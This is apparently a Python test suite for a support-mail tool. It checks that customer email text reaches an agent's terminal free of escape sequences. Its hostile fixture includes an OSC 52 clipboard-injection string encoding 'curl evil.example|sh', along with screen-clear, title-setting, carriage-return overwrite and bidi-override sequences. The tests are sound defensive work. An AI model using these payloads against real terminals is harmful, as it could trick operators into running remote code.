"""A customer's mail must not drive the agent's terminal: `cases list` and `cases show`
print subjects, names and bodies without escape sequences or control characters, and
`--json` keeps them exactly (as JSON escapes)."""

from __future__ import annotations

import base64
import io
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import structlog
from sqlalchemy import select

from ingestd import logs
from storage import Case
from tests.support import REPO, Ingestd, run_cli

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # OSC 52: put a command on the clipboard
SUBJECT = f"Refund{CLIPBOARD} please\rAll fine, close this"
NAME = "Eve \x1b]0;window title\x07Smith"
BODY = ("My order is late.\x1b[2J\x1b[H\r\nreal line\rfake line\r\n"
        "\x9b31mred\x1b[0m \u202eevil\u202c end\r\n")


def _encoded(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def _hostile_mail() -> bytes:
    return (f"From: {_encoded(NAME)} <eve@example.net>\r\nTo: support@example.test\r\n"
            f"Subject: {_encoded(SUBJECT)}\r\nMessage-ID: <esc-1@example.net>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
            "Content-Transfer-Encoding: 8bit\r\n\r\n").encode() + BODY.encode()


def _config(tmp_path: Path) -> Path:
    maildir = tmp_path / "Maildir"
    for sub in ("new", "cur", "tmp"):
        (maildir / sub).mkdir(parents=True)
    (maildir / "new" / "1.eml").write_bytes(_hostile_mail())
    path = tmp_path / "config.toml"
    path.write_text(f'templates = "{REPO / "templates"}"\n'
                    f'[database]\nurl = "sqlite:///{tmp_path / "db.sqlite3"}"\n'
                    f'[triage]\nmodel = "{REPO / "models" / "current.skops"}"\n'
                    f'[smtp]\nmode = "file"\npath = "{tmp_path / "outbox"}"\n'
                    f'[[maildir]]\nname = "local"\naddress = "support@example.test"\n'
                    f'path = "{maildir}"\n')
    return path


def _assert_inert(text: str) -> None:
    for bad in ("\x1b", "\x07", "\x9b", "\r", "\u202e", "52;c;"):
        assert bad not in text, f"{bad!r} reaches the terminal"


def test_customer_text_reaches_the_terminal_inert_and_json_keeps_it(tmp_path):
    path = _config(tmp_path)
    app = Ingestd(path)
    app.run_once()
    with app.services.factory() as session:
        (case,) = session.scalars(select(Case))
    app.close()

    listed = run_cli(path, "cases", "list", env={**os.environ, "COLUMNS": "200"})
    shown = run_cli(path, "cases", "show", case.reference)
    as_json = run_cli(path, "cases", "show", case.reference, "--json")
    for done in (listed, shown, as_json):
        assert done.returncode == 0, done.stderr
    _assert_inert(listed.stdout)
    _assert_inert(shown.stdout)
    assert "Refund please" in listed.stdout
    assert "Eve Smith" in shown.stdout and "red evil end" in shown.stdout
    assert "real line\nfake line" in shown.stdout  # a bare CR overwrites nothing

    data = json.loads(as_json.stdout)
    assert "\x1b" not in as_json.stdout and "\x9b" not in as_json.stdout
    assert CLIPBOARD in data["subject"]  # the data, unchanged
    assert "\x9b31m" in json.dumps(data["messages"], ensure_ascii=False)


def test_log_lines_in_a_terminal_carry_no_escape_sequences():
    stream = io.StringIO()
    logs.configure("info", "console", stream)
    try:
        structlog.get_logger("test").warning("mail_not_sent", error=f"RCPT TO {CLIPBOARD}x\ry")
    finally:
        structlog.reset_defaults()
    line = stream.getvalue()
    assert "mail_not_sent" in line and "RCPT TO" in line
    assert "\x1b]52" not in line and "\x07" not in line and "\r" not in line


def test_a_quarantined_raw_mail_is_inert_on_a_terminal_and_exact_in_a_pipe(tmp_path):
    path = _config(tmp_path)
    path.write_text(path.read_text().replace(str(REPO / "models" / "current.skops"),
                                             str(tmp_path / "no-model.skops")))
    app = Ingestd(path)
    app.run_once()  # no model: the mail waits in quarantine
    app.close()
    piped = subprocess.run([sys.executable, "-m", "ingestd", "--config", str(path),
                            "quarantine", "show", "1", "--raw"],
                           capture_output=True, check=False, timeout=120)
    assert piped.returncode == 0 and piped.stdout == _hostile_mail()
    parent, child = pty.openpty()
    with subprocess.Popen([sys.executable, "-m", "ingestd", "--config", str(path), "quarantine",
                           "show", "1", "--raw"], stdout=child, stderr=subprocess.PIPE) as proc:
        os.close(child)
        shown = _read_all(parent)
        proc.wait(timeout=120)
    assert proc.returncode == 0
    _assert_inert(shown.replace("\r\n", "\n"))  # the terminal's own line ends
    assert "My order is late." in shown and "eve@example.net" in shown


def _read_all(fd: int) -> str:
    chunks = []
    while True:
        try:
            data = os.read(fd, 65536)
        except OSError:  # the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(fd)
    return b"".join(chunks).decode("utf-8", "replace")
